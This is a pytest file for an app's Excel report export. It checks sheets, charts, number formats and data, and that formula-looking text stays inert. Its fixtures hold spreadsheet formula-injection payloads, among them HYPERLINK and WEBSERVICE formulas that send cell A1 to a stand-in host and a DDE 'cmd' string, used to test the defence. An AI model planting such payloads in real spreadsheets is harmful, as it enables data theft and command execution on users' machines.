"""The report as an Excel workbook (staircase/reports/workbook.py), read back as a user's
tools read it: openpyxl for the sheets, the chart, the formats and the numbers (checked
against the roll-up, the targets and the content model), and LibreOffice Calc (headless,
xlsx → xlsx, as tests/test_formula_injection.py does with the CSV) for opening it cleanly
and for keeping every text a text. The LibreOffice test needs `soffice` and is skipped
without it."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import xlsxwriter

from staircase import settings
from staircase.csv.format import FORMULA_START
from staircase.domain.moments import now
from staircase.domain.units import UnitTree
from staircase.reports import workbook
from staircase.reports.model import Column, Report, Table
from staircase.services import Actor, Lartrappan
from staircase.services.demo import load_demo
from staircase.services.reports import render
from staircase.views.organisation import STATUS_BACKGROUNDS

openpyxl = pytest.importorskip("openpyxl")

MUNICIPALITY = ("Norrby kommun",)
LEAF = "Hemtjänst Norr"
SHEETS = {
    "sv": ["Sammanfattning", "Enheter och arbetssätt", "Mål", "Bilaga", "Ögonblicksbilder"],
    "en": ["Summary", "Units and practices", "Targets", "Appendix", "Snapshots"],
}
ACTOR = Actor("test")
SOFFICE = shutil.which("soffice")
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"klicka")',
    "+46 70 123 45 67",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""A unit name may start with each of these (not with a tab or CR: no control characters)."""
COMMENT = '=WEBSERVICE("http://example.invalid/?"&A1)'
SAVER = "@SUM(1+1)"


# ---------------------------------------------------------------------------- helpers


@pytest.fixture
def demo(make_store: Callable[[str], Lartrappan]) -> Lartrappan:
    core = make_store("demo")
    load_demo(core)
    return core


def ids(core: Lartrappan) -> tuple[UnitTree, int, int]:
    tree = core.units.tree()
    municipality = tree.find(MUNICIPALITY)
    assert municipality is not None
    (leaf,) = [u.id for u in tree.ordered(under=municipality) if tree.units[u.id].name == LEAF]
    return tree, municipality, leaf


def xlsx(report: Report) -> bytes:
    out = io.BytesIO()
    render(report, "xlsx", out)
    return out.getvalue()


def book_of(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def rows_of(sheet: Any) -> list[tuple[Any, ...]]:
    """Each row's values without the empty cells at its end ((): an empty row)."""
    out = []
    for row in sheet.iter_rows(values_only=True):
        values = list(row)
        while values and values[-1] is None:
            values.pop()
        out.append(tuple(values))
    return out


def expected(row: tuple[Any, ...]) -> tuple[Any, ...]:
    """A model row as openpyxl reads it back: a date is a datetime at midnight, an empty
    cell or text is None, and the trailing empty cells are gone."""
    values = [
        datetime(v.year, v.month, v.day)
        if isinstance(v, date) and not isinstance(v, datetime)
        else (None if v == "" else v)
        for v in row
    ]
    while values and values[-1] is None:
        values.pop()
    return tuple(values)


def rounded(rows: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    return [tuple(round(v, 12) if isinstance(v, float) else v for v in r) for r in rows]


def plain(reference: str) -> str:
    """A cell reference without the quotes around its sheet's name (put where needed)."""
    return reference.replace("'", "")


def find_row(rows: list[tuple[Any, ...]], first: Any) -> int:
    return next(i for i, r in enumerate(rows) if r and r[0] == first)


# ---------------------------------------------------------------------------- the sheets


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_the_sheets_and_their_names_in_the_reports_language(demo: Lartrappan, lang: str) -> None:
    tree, municipality, leaf = ids(demo)
    book = book_of(xlsx(demo.reports.build(tree, municipality, lang=lang, made_by="Anna")))  # type: ignore[arg-type]
    assert book.sheetnames == SHEETS[lang]
    one = book_of(xlsx(demo.reports.build(tree, leaf, lang=lang)))  # type: ignore[arg-type]
    assert one.sheetnames == [SHEETS[lang][0], SHEETS[lang][-1]]
    for name in book.sheetnames:
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\")


def test_workbook_properties(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="en", made_by="Anna Ek")
    book = book_of(xlsx(report))
    assert book.properties.title == report.title == "Lärtrappan – report for Norrby kommun"
    assert book.properties.creator == "Anna Ek"
    # stored in UTC; the report's moment is the organisation's local time
    zone = ZoneInfo(settings.current().timezone)
    made = report.made_at.replace(tzinfo=zone).astimezone(UTC).replace(tzinfo=None)
    assert book.properties.created == made
    assert {p.name: p.value for p in book.custom_doc_props.props}["Language"] == "en"


def test_summary_opens_with_the_cover_and_lists_every_other_sheet(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="sv", made_by="Anna")
    book = book_of(xlsx(report))
    rows = rows_of(book["Sammanfattning"])
    assert rows[0] == (report.title,)
    assert rows[1 : 1 + len(report.cover)] == [(line,) for line in report.cover]
    assert book["Sammanfattning"]["A1"].font.b
    listed = [r[0] for r in rows if r and isinstance(r[0], str) and r[0].endswith(" rader)")]
    assert [line.split(":")[0] for line in listed] == SHEETS["sv"][1:]
    assert listed[-1].endswith(f"({report.snapshots.count} rader)")


# ---------------------------------------------------------------------------- the chart


def test_summary_has_a_native_stacked_column_chart_over_the_distribution(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="sv")
    book = book_of(xlsx(report))
    sheet = book["Sammanfattning"]
    (chart,) = sheet._charts
    assert chart.tagname == "barChart" and chart.type == "col"
    assert chart.grouping == "stacked" and chart.overlap == 100
    distribution = report.workbook.distribution
    rows = rows_of(sheet)
    header = find_row(rows, distribution.columns[0].title)
    first, last = header + 2, header + 1 + len(distribution.rows)  # 1-based rows of the data
    refs = [plain(s.val.numRef.f) for s in chart.series]
    # steps 0..3 and not yet assessed: the five count columns B..F, over the periods' rows
    assert refs == [f"Sammanfattning!${c}${first}:${c}${last}" for c in "BCDEF"]
    assert {plain(s.cat.strRef.f) for s in chart.series} == {f"Sammanfattning!$A${first}:$A${last}"}
    assert [plain(s.tx.strRef.f) for s in chart.series] == [
        f"Sammanfattning!${c}${header + 1}" for c in "BCDEF"
    ]
    # the mean maturity: a line on a second axis, in percent, over column G
    (line,) = [c for c in chart._charts if c.tagname == "lineChart"]
    assert [plain(s.val.numRef.f) for s in line.series] == [f"Sammanfattning!$G${first}:$G${last}"]
    assert line.y_axis.axId != chart.y_axis.axId
    assert line.y_axis.number_format.formatCode == "0 %"
    drawing = sheet._charts[0].anchor._from
    assert drawing.row > last - 1 and drawing.col == 0  # under the table, not over it


def test_one_unit_report_charts_its_history_as_lines(demo: Lartrappan) -> None:
    tree, _, leaf = ids(demo)
    report = demo.reports.build(tree, leaf, lang="en")
    assert report.kind == "unit" and report.workbook.heatmap is None
    history = report.workbook.distribution
    assert len(history.rows) >= 2, "the demo unit has snapshots in the last twelve months"
    book = book_of(xlsx(report))
    assert "Units and practices" not in book.sheetnames and "Targets" not in book.sheetnames
    sheet = book["Summary"]
    (chart,) = sheet._charts
    assert chart.tagname == "lineChart"
    rows = rows_of(sheet)
    header = find_row(rows, history.columns[0].title)
    assert rows[header] == tuple(c.title for c in history.columns)
    got = rows[header + 1 : header + 1 + len(history.rows)]
    assert got == [expected(r) for r in history.rows]
    first, last = header + 2, header + 1 + len(history.rows)
    series = [plain(s.val.numRef.f) for c in chart._charts for s in c.series]
    assert series == [f"Summary!${c}${first}:${c}${last}" for c in "BC"]
    assert sheet.cell(first, 1).number_format == "yyyy-mm-dd hh:mm"
    assert sheet.cell(first, 1).is_date
    assert sheet.cell(first, 3).number_format == "0 %"


# ---------------------------------------------------------------------------- the numbers


def test_last_distribution_row_is_the_rollup_now(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="en")
    dist = demo.rollup.of_unit(tree, municipality).distribution
    sheet = book_of(xlsx(report))["Summary"]
    rows = rows_of(sheet)
    header = find_row(rows, report.workbook.distribution.columns[0].title)
    n = len(report.workbook.distribution.rows)
    last = rows[header + n]
    assert list(last[1:5]) == [dist.steps[s] for s in range(4)]
    assert last[5] == dist.not_assessed
    assert last[6] == pytest.approx(dist.maturity_mean)
    cell = sheet.cell(header + n + 1, 7)
    assert cell.data_type == "n" and cell.number_format == "0 %"
    assert sheet.cell(header + n + 1, 2).alignment.horizontal == "right"
    head = sheet.cell(header + 1, 1)
    assert head.font.b and head.fill.fgColor.rgb.endswith("EBF0F8")


def test_every_table_of_the_report_is_in_the_workbook(demo: Lartrappan) -> None:
    """Every number (and text) of every section: on the summary, the appendix on its own
    sheet, each row as the model has it."""
    tree, municipality, _ = ids(demo)
    demo.targets.set(ACTOR, municipality, 3, now().date() + timedelta(days=200))
    report = demo.reports.build(tree, municipality, lang="sv")
    book = book_of(xlsx(report))
    summary = rows_of(book["Sammanfattning"])
    checked = 0
    for section in report.sections:
        tables = [*section.tables, *(f.table for f in section.figures)]
        rows = summary if section.key != "appendix" else rows_of(book["Bilaga"])
        assert (section.title,) in summary
        assert all((line,) in summary for line in section.text)
        for table in tables:
            assert tuple(c.title for c in table.columns) in rows, table.caption
            for row in table.rows:
                assert expected(row) in rows, (table.caption, row)
                checked += 1
    assert checked > 40
    assert ("Tabellen står på bladet ”Bilaga”.",) in summary


def test_heatmap_statuses_are_the_rollups_with_their_colours(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="sv")
    now_ = demo.rollup.of_unit(tree, municipality)
    labels = report.workbook.status_labels
    assert labels["done"] == "✓ Vi får det att hända"
    sheet = book_of(xlsx(report))["Enheter och arbetssätt"]
    rows = rows_of(sheet)
    practices = list(now_.practice_ids)
    assert len(rows[0]) == 3 + len(practices)
    status = {(int(e.unit_id), e.practice_id): e.status for e in now_.entries.itertuples()}
    label_of = {tree.label(u): u for u in now_.expected}
    assert {r[0] for r in rows[1:]} == set(label_of)
    seen = set()
    for row in rows[1:]:
        unit = label_of[row[0]]
        for practice, cell in zip(practices, row[3:], strict=False):
            want = status.get((unit, practice))
            assert cell == (labels[want] if want else None), (row[0], practice)
            seen.add(want)
    assert {"done", "in_progress", "not_started"} <= seen
    scores = now_.scores.set_index("unit_id")
    for row in rows[1:]:
        unit = label_of[row[0]]
        assert row[1] == scores.at[unit, "step_reached"]
        assert row[2] == pytest.approx(scores.at[unit, "maturity"])
    # one rule per status over the practice cells, matching its label, with its colour
    last = f"{chr(ord('A') + 2 + len(practices))}{len(rows)}"
    (ranges,) = [str(r.sqref) for r in sheet.conditional_formatting]
    assert ranges == f"D2:{last}"
    rules = [rule for cf in sheet.conditional_formatting for rule in cf.rules]
    found = {
        rule.formula[0]: rule.dxf.fill.bgColor.rgb[-6:]
        for rule in rules
        if rule.type == "cellIs" and rule.operator == "equal"
    }
    assert found == {f'"{labels[s]}"': STATUS_BACKGROUNDS[s][1:] for s in labels}
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == f"A1:{last}"
    assert sheet.cell(2, 3).number_format == "0 %"


def test_targets_sheet_holds_the_targets_progress(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    due = now().date() + timedelta(days=90)
    demo.targets.set(ACTOR, municipality, 2, due)
    report = demo.reports.build(tree, municipality, lang="en")
    sheet = book_of(xlsx(report))["Targets"]
    rows = rows_of(sheet)
    progress = demo.targets.progress(tree, municipality).table
    assert len(progress) == 8 and len(rows) == 1 + len(progress)
    assert rows[0] == tuple(c.title for c in report.workbook.targets.columns)  # type: ignore[union-attr]
    got = {r[0]: r for r in rows[1:]}
    for r in progress.itertuples():
        row = got[tree.label(int(r.unit_id))]
        assert row[1:4] == (
            r.target_step,
            datetime.combine(r.target_due, datetime.min.time()),
            r.step_reached,
        )
        assert row[5:7] == (r.gap, r.days_left)
    assert sheet.cell(2, 3).is_date and sheet.cell(2, 3).number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "B2"


def test_targets_sheet_says_when_there_are_none(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="en")
    assert report.workbook.targets is not None and not report.workbook.targets.rows
    rows = rows_of(book_of(xlsx(report))["Targets"])
    assert rows == [tuple(c.title for c in report.workbook.targets.columns), ("Nothing to show.",)]


def test_a_period_before_any_snapshot(demo: Lartrappan) -> None:
    """No snapshot in the period: the sheets are there, the snapshots sheet says so."""
    tree, municipality, _ = ids(demo)
    start = now().date().replace(day=1) - timedelta(days=365 * 8)
    report = demo.reports.build(tree, municipality, start, start + timedelta(days=90))
    assert report.snapshots.count == 0
    book = book_of(xlsx(report))
    assert book.sheetnames == SHEETS["sv"]
    assert rows_of(book["Ögonblicksbilder"])[1:] == [("Inget att visa.",)]


# ---------------------------------------------------------------------------- snapshots


def snapshot_rows(report: Report) -> list[tuple[Any, ...]]:
    return [expected(r) for batch in report.snapshots.batches() for r in batch]


def test_snapshots_sheet_holds_every_snapshot_in_the_period(demo: Lartrappan) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="sv")
    sheet = book_of(xlsx(report))["Ögonblicksbilder"]
    rows = rows_of(sheet)
    assert rows[0] == tuple(c.title for c in report.snapshots.columns)
    assert rows[1:] == snapshot_rows(report)
    assert len(rows) - 1 == report.snapshots.count > 20
    assert sheet.cell(2, 2).is_date and sheet.cell(2, 2).number_format == "yyyy-mm-dd hh:mm"
    assert sheet.cell(2, 5).number_format == "0 %"
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == f"A1:F{len(rows)}"
    assert sheet.column_dimensions["A"].width > 40  # the unit's path


def test_more_snapshots_than_a_sheet_holds_go_on_on_the_next(
    demo: Lartrappan, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree, municipality, _ = ids(demo)
    report = demo.reports.build(tree, municipality, lang="sv")
    whole = snapshot_rows(report)
    monkeypatch.setattr(workbook, "MAX_ROWS", 5)  # a header and four snapshots per sheet
    book = book_of(xlsx(report))
    parts = -(-len(whole) // 4)
    names = ["Ögonblicksbilder"] + [f"Ögonblicksbilder {n}" for n in range(2, parts + 1)]
    assert book.sheetnames == SHEETS["sv"][:-1] + names
    header = tuple(c.title for c in report.snapshots.columns)
    got = []
    for name in names:
        rows = rows_of(book[name])
        assert rows[0] == header and 1 <= len(rows) - 1 <= 4
        got += rows[1:]
    assert got == whole
    listed = [r[0] for r in rows_of(book["Sammanfattning"]) if r and str(r[0]).startswith("Ögon")]
    assert len(listed) == parts and listed[-1].startswith(f"Ögonblicksbilder {parts}: ")


def test_the_row_limit_is_excels() -> None:
    assert workbook.MAX_ROWS == 1_048_576


# ---------------------------------------------------------------------------- inert text


@pytest.fixture
def hostile(demo: Lartrappan) -> tuple[Lartrappan, int, list[str]]:
    """The demo municipality renamed to a formula-looking name (so every unit's path in the
    workbook starts with it), and a snapshot per formula character whose saver and
    comment start with it."""
    tree, municipality, _ = ids(demo)
    demo.units.rename(ACTOR, municipality, PAYLOADS[0])
    demo.targets.set(ACTOR, municipality, 3, now().date() + timedelta(days=200))
    leaves = [u.id for u in tree.ordered(under=municipality) if not tree.children(u.id)]
    for unit_id, payload in zip(leaves, PAYLOADS, strict=False):
        demo.snapshots.save(ACTOR, unit_id, payload, payload)
    demo.snapshots.save(ACTOR, leaves[len(PAYLOADS)], SAVER, COMMENT)
    return demo, municipality, [*PAYLOADS, COMMENT, SAVER]


def strings_starting_a_formula(book: Any) -> list[Any]:
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START
    ]


def test_formula_looking_text_stays_a_string(hostile: tuple[Lartrappan, int, list[str]]) -> None:
    core, municipality, payloads = hostile
    report = core.reports.build(core.units.tree(), municipality, lang="sv")
    book = book_of(xlsx(report))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    risky = strings_starting_a_formula(book)
    values = {c.value for c in risky}
    for payload in payloads:
        assert any(v.startswith(payload) for v in values), payload  # as typed, no quote added
    assert {c.data_type for c in risky} == {"s"}
    assert all(c.quotePrefix for c in risky)  # stays text when someone edits the cell
    snapshots = rows_of(book["Ögonblicksbilder"])
    assert any(r[2] == SAVER and r[5] == COMMENT for r in snapshots[1:])
    for name in ("Enheter och arbetssätt", "Mål", "Bilaga", "Ögonblicksbilder"):
        units = [r[0] for r in rows_of(book[name])[1:]]
        assert units and all(u.startswith(PAYLOADS[0] + " > ") for u in units), name
    assert not [c for c in cells if c.hyperlink is not None]


def convert(files: list[Path], work: Path) -> subprocess.CompletedProcess[bytes]:
    """LibreOffice Calc opens each workbook and saves it again as xlsx (into work/out)."""
    return subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation=file://{work / 'profile'}",  # own profile: no clashes
            "--headless",
            "--norestore",
            "--convert-to",
            "xlsx:Calc Office Open XML",
            "--outdir",
            str(work / "out"),
            *map(str, files),
        ],
        check=False,
        capture_output=True,
        timeout=300,
    )


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:Unable to read chart:UserWarning")  # see the end
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_workbook_and_keeps_every_text_inert(
    hostile: tuple[Lartrappan, int, list[str]], tmp_path: Path
) -> None:
    core, municipality, payloads = hostile
    tree = core.units.tree()
    report = core.reports.build(tree, municipality, lang="sv")
    (leaf,) = [u.id for u in tree.ordered(under=municipality) if tree.units[u.id].name == LEAF]
    organisation, unit = tmp_path / "organisation.xlsx", tmp_path / "unit.xlsx"
    organisation.write_bytes(xlsx(report))
    unit.write_bytes(xlsx(core.reports.build(tree, leaf, lang="en")))
    # The control: a workbook that does hold a formula, written as text would be without
    # write_string, comes back from Calc as a formula, so the checks below can see one.
    control = tmp_path / "control.xlsx"
    with xlsxwriter.Workbook(str(control)) as book:
        book.add_worksheet().write(0, 0, PAYLOADS[0])
    done = convert([organisation, unit, control], tmp_path)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    for name in ("organisation", "unit", "control"):
        assert (tmp_path / "out" / f"{name}.xlsx").stat().st_size > 0, done.stdout
    assert b"Error" not in done.stderr and b"error" not in done.stdout.lower()

    control_cell = openpyxl.load_workbook(tmp_path / "out" / "control.xlsx").active["A1"]
    assert control_cell.data_type == "f"

    converted = openpyxl.load_workbook(tmp_path / "out" / "organisation.xlsx")
    assert converted.sheetnames == SHEETS["sv"]
    assert len(converted["Sammanfattning"]._charts) == 1
    cells = [c for s in converted.worksheets for row in s.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    risky = strings_starting_a_formula(converted)
    assert {c.data_type for c in risky} == {"s"}
    values = {c.value for c in risky}
    for payload in payloads:
        assert any(v.startswith(payload) for v in values), payload
    # the numbers survive too: the snapshots sheet as written
    # (Calc keeps 15 significant digits: 0.6111111111111112 comes back as …111)
    original = rows_of(book_of(organisation.read_bytes())["Ögonblicksbilder"])
    assert rounded(rows_of(converted["Ögonblicksbilder"])) == rounded(original)

    one = openpyxl.load_workbook(tmp_path / "out" / "unit.xlsx")
    assert one.sheetnames == ["Summary", "Snapshots"]
    # (openpyxl cannot read this chart back: Calc caches the date categories as formatted
    # text in a numeric cache; so the chart's part itself)
    with zipfile.ZipFile(tmp_path / "out" / "unit.xlsx") as saved:
        charts = [n for n in saved.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1 and b"<c:lineChart>" in saved.read(charts[0])


# ---------------------------------------------------------------------------- pieces


def test_sheet_names_are_made_valid() -> None:
    assert workbook.sheet_name("Mål: 2026/27 [utkast]?") == "Mål- 2026-27 -utkast--"
    assert workbook.sheet_name("'citat'") == "citat"
    assert len(workbook.sheet_name("x" * 40)) == 31


def test_a_table_with_any_kind_of_cell(tmp_path: Path) -> None:
    """Cells as the model allows them, each written as its kind: no value turned into
    something else, no blank where a value was, nothing for None."""
    from staircase.reports.model import SnapshotRows, WorkbookData

    columns = (
        Column("text"),
        Column("int", "int"),
        Column("percent", "percent"),
        Column("decimal", "decimal"),
        Column("date", "date"),
        Column("moment", "moment"),
    )
    rows = (
        ("007", 3, 0.625, 2.25, date(2026, 1, 2), datetime(2026, 1, 2, 13, 45)),
        ("1e5", None, None, None, None, None),
        ("line\nbreak", 2.5, 1.0, 0.0, datetime(2026, 3, 4, 0, 0), date(2026, 3, 4)),
    )
    table = Table("Caption", columns, rows)

    def batches() -> Iterator[list[tuple[Any, ...]]]:
        yield list(rows)

    report = Report(
        "en",
        "Title",
        "Unit",
        "organisation",
        date(2026, 1, 1),
        date(2026, 3, 31),
        datetime(2026, 4, 1, 9, 0),
        "",
        ("cover",),
        (),
        WorkbookData(table, None),
        SnapshotRows(columns, len(rows), batches),
    )
    book = book_of(xlsx(report))
    assert book.sheetnames == ["Summary", "Snapshots"]
    assert book.properties.creator == "Lärtrappan"
    sheet = book["Snapshots"]
    assert rows_of(sheet)[1:] == [expected(r) for r in rows]
    formats = [sheet.cell(2, c).number_format for c in range(2, 7)]
    assert formats == ["0", "0 %", "0.0", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
    assert [sheet.cell(2, c).data_type for c in range(1, 7)] == ["s", "n", "n", "n", "d", "d"]
    assert sheet.cell(4, 2).number_format == "General"  # 2.5 in an int column: not rounded
    assert sheet.cell(3, 1).value == "1e5" and sheet.cell(3, 1).data_type == "s"
